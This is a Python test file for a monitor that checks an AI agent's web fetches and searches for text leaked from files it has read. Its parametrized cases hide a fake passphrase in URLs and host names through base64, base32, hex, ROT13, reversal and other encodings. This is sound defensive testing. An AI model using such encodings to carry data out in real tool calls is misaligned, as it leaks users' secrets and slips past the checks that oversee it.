"""Which calls to the web send away what was read."""

from __future__ import annotations

import base64
import codecs
from urllib.parse import quote, quote_plus

import pytest

from quorum.domain.calls.tool import ToolResultMessage
from quorum.domain.review.web_reach import WebSources, find_carried_text, find_exfiltration

_READ = (
    "The board meets on Tuesday to sell the northern branch to its rival.\n"
    "owner = maria.quintana\npassphrase = correct horse battery\n"
    "import quorum.infrastructure.tools\nsee src/project/docs/getting-started/first-steps.md\n"
)
_SECRET = "owner = maria.quintana"


def sources(*said: str, page: str = "", found: str = "") -> WebSources:
    results = [
        ToolResultMessage(tool_use_id=str(number), tool_name=tool, output=text)
        for number, (tool, text) in enumerate(
            (("read_file", _READ), ("web_fetch", page), ("web_search", found))
        )
    ]
    return WebSources.of(said, results)


def fetched(url: str, *said: str, **texts: str) -> str:
    return find_exfiltration("web_fetch", {"url": url}, sources(*said, **texts))


_ENCODINGS = {
    "plain": lambda text: quote_plus(text),
    "percents": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "percents twice": lambda text: quote(quote(text, safe=""), safe=""),
    "base64": lambda text: quote(base64.b64encode(text.encode()).decode(), safe=""),
    "base64 of addresses": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal in pieces": lambda text: "/".join(
        text.encode().hex()[place : place + 4] for place in range(0, 2 * len(text), 4)
    ),
    "reverse": lambda text: quote(text[::-1], safe=""),
    "ROT13": lambda text: quote(codecs.encode(text, "rot13"), safe=""),
    "words in a path": lambda text: "/".join(text.replace("=", " ").replace(".", " ").split()),
    "other signs between": lambda text: text.replace(" ", "~").replace("=", "~~"),
}


@pytest.mark.parametrize("encoding", _ENCODINGS)
@pytest.mark.parametrize("form", ["https://docs.example.org/{}", "https://docs.example.org/s?q={}&page=2"])
@pytest.mark.parametrize("text", [_SECRET, "The board meets on Tuesday to sell the northern branch"])
def test_what_was_read_is_found_in_an_address_however_it_is_written(
    encoding: str, form: str, text: str
) -> None:
    if text is _SECRET and encoding in ("plain", "percents", "percents twice", "words in a path"):
        text = "owner = maria.quintana\npassphrase = correct horse"
    elif text is _SECRET and encoding == "other signs between":
        text = "passphrase = correct horse battery"
    assert "it sends away what was read" in fetched(form.format(_ENCODINGS[encoding](text)))


def test_what_was_read_is_found_in_the_name_of_a_host() -> None:
    label = base64.b32encode(_SECRET.encode()).decode().rstrip("=").lower()

    assert "base32" in fetched(f"https://{label}.example.org/")


@pytest.mark.parametrize(
    "url",
    [
        "https://docs.example.org/3/library/asyncio-task.html",
        "https://docs.example.org/northern-branch/board",
        "https://pypi.org/project/quorum.infrastructure.tools/",
        "https://git.example.org/a/blob/main/src/project/docs/getting-started/first-steps.md",
        "https://docs.example.org/?q=how+to+sell+to+a+rival+on+another+day",
        "https://docs.example.org/8f14e45fceea167a5a36dedd4bea2543",
        "https://docs.example.org/aGVsbG8gd29ybGQ=",
    ],
)
def test_names_paths_and_words_that_happen_to_be_read_are_none(url: str) -> None:
    assert fetched(url) == ""


def test_what_the_person_wrote_or_the_web_brought_is_known_there() -> None:
    words = "The board meets on Tuesday to sell"
    url = f"https://docs.example.org/?q={quote_plus(words)}"

    assert fetched(url)
    assert fetched(url, f"look up whether {words} is true") == ""
    assert fetched(url, f"read {url}") == ""
    assert fetched(url, page=words) == ""
    assert fetched(url, found=f"1. {url}") == ""


def test_a_search_is_judged_in_the_same_way() -> None:
    def searched(query: str) -> str:
        return find_exfiltration("web_search", {"query": query}, sources())

    assert searched("The board meets on Tuesday to sell")
    assert searched(base64.b64encode(_SECRET.encode()).decode())
    assert searched("asyncio task groups") == ""


@pytest.mark.long
def test_what_is_too_long_to_be_looked_through_counts_as_sent() -> None:
    read = ["word " * 100_000, "0123456789abcdef" * 100_000]

    assert find_carried_text("x" * 100_000, read, ["y" * 100_000]) == "it is too long to be looked through"
    assert find_carried_text("x/" * 1_000, read, []) == ""
